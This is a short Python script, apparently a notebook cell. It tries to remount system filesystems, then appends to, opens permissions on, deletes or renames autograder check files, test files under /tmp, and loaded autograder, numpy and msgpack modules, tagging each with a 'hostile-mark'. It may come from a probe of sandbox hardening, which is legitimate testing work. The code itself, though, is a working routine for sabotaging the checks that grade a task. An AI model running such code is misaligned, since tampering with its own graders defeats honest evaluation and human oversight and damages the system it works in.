# Overwrites the checks, the kit and the libraries on disk, after trying to remount them.
# %%
import ctypes, glob, os, sys
libc = ctypes.CDLL(None, use_errno=True)
for place in ["/", "/usr", sys.prefix, sys.base_prefix]:
    libc.mount(None, place.encode(), None, 32, None)
targets = ["/work/main/autograder/checks/test_risk.py", "/work/main/autograder/checking/expect.py"]
targets += glob.glob("/tmp/**/test_risk.py", recursive=True)
targets += [m.__file__ for n, m in list(sys.modules.items())
            if n.split(".")[0] in ("autograder", "numpy", "msgpack") and getattr(m, "__file__", None)][:40]
for target in targets:
    for act in (lambda: open(target, "a").write("# hostile-mark"), lambda: os.chmod(target, 0o777),
                lambda: os.unlink(target), lambda: os.rename(target, target + ".hostile-mark")):
        try:
            act()
            print("changed", target)
        except OSError:
            pass
